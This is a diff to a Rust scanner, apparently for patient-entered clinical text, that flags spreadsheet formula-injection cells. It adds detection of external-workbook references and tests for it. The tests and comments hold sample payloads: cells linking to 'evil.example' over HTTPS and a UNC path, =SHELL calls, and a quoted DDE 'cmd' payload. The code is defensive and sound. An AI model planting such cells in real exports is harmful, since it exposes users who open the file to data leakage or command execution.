@@ -3,13 +3,14 @@
 //! Patients write "-3 度", "+81 90...", "@山田先生" and "=> good"; only what calls, links or computes is a formula.
 
 use super::Place;
+use super::around::is_line_end;
 use super::fold::narrow;
 
 /// Formulas. What acts is the sign they begin with.
 pub(super) fn formulas(text: &str) -> Vec<Place> {
     let mut places = Vec::new();
     let mut line_start = 0;
-    for line in text.split(['\n', '\r']) {
+    for line in text.split(is_line_end) {
         let mut cell_start = line_start;
         for cell in line.split('\t') {
             places.extend(formula_at(cell, cell_start));
@@ -18,11 +19,12 @@ pub(super) fn formulas(text: &str) -> Vec<Place> {
         for (separator, _) in line.match_indices([',', ';']) {
             let start = separator + 1;
             let cell = line.get(start..).unwrap_or_default();
-            if is_call_or_exchange(&plain(cell.trim_start_matches(QUOTES))) {
+            if calls(&plain(cell.trim_start_matches(QUOTES))) {
                 places.extend(formula_at(cell, line_start + start));
             }
         }
-        line_start += line.len() + 1;
+        let end = text.get(line_start + line.len()..).and_then(|rest| rest.chars().next());
+        line_start += line.len() + end.map_or(0, char::len_utf8);
     }
     places
 }
@@ -40,10 +42,24 @@ fn plain(cell: &str) -> String {
 
 fn is_formula(cell: &str) -> bool {
     match cell.bytes().next() {
-        Some(b'=') => is_call_or_exchange(cell) || is_call(cell) || computes(cell),
-        Some(b'+' | b'-' | b'@') => is_call_or_exchange(cell),
+        Some(b'=') => calls(cell) || computes(cell),
+        Some(b'+' | b'-' | b'@') => calls(cell),
         _ => false,
     }
+}
+
+/// What calls or reaches out is a formula behind a comma as well, where much may be between equals signs.
+fn calls(cell: &str) -> bool {
+    is_call_or_exchange(cell) || is_outside(cell) || cell.starts_with('=') && is_call(cell)
+}
+
+/// A cell of another file, wherever it lies: `+'https://host/[book.xlsx]Sheet1'!A1`.
+fn is_outside(cell: &str) -> bool {
+    let name = cell.trim_start_matches(['=', '+', '-', '@', ' ', '(']);
+    let quoted = name.strip_prefix('\'').filter(|_| name.len() < cell.len());
+    quoted.and_then(|name| name.split_once("'!")).is_some_and(|(_, place)| {
+        place.starts_with(|first: char| first.is_ascii_alphanumeric() || first == '$')
+    })
 }
 
 /// A function that reaches out, or a data exchange (`cmd|' /C calc'!A0`).
@@ -128,3 +144,40 @@ const FUNCTIONS: [&str; 26] = [
     "QUERY",
 ];
 const MAX_CELL: usize = 512;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_reaches_into_another_file_is_a_formula_behind_every_sign() {
+        for text in [
+            "+'https://evil.example/[book.xlsx]S'!A1",
+            "-'https://evil.example/[book.xlsx]S'!$A$1",
+            "@'C:\\[a.xls]S'!A1",
+            "山田,='\\\\evil.example\\[a.xls]S'!A1",
+            "山田,=SHELL(\"x\")",
+            "山田;\"=SHELL(\"\"x\"\")\"",
+            "腰痛\u{2028}=SHELL(\"x\")",
+            "腰痛\u{B}=1+1",
+        ] {
+            assert_eq!(formulas(text).len(), 1, "{text}");
+        }
+        let text = "a\u{2028}b,=SHELL(\"x\")";
+        assert_eq!(formulas(text), [Place::at(text.find('=').unwrap())]);
+    }
+
+    #[test]
+    fn quotation_marks_and_values_are_none() {
+        for text in [
+            "-'はい'!",
+            "'はい'!A",
+            "+ 'A'!と言われた",
+            "-3,-2,=良い,=37.5",
+            "体重,=(笑)",
+            "@'山田'さん",
+        ] {
+            assert_eq!(formulas(text), [], "{text}");
+        }
+    }
+}
